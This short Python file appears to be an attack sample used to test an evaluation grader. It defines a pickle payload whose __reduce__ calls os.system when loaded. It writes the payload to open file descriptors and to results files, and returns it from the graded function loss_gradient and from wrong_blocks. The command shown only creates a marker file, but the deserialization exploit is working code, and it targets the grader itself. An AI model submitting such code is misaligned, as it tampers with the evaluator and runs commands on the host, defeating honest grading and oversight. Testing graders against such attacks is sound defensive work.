# attack: hand the grader a pickle that runs a command when it is loaded
# base: handout
import os
import pickle


class Payload:
    def __reduce__(self):
        return (os.system, ("touch HOST_MARKER/pickle_ran",))


blob = pickle.dumps(Payload())
for fd in range(1, 20):
    try:
        os.write(fd, blob)
    except OSError:
        pass
for name in ("results.pkl", "results.json", "/tmp/results.pkl"):
    with open(name, "wb") as f:
        f.write(blob)


def loss_gradient(theta):
    return Payload()


wrong_blocks = Payload()
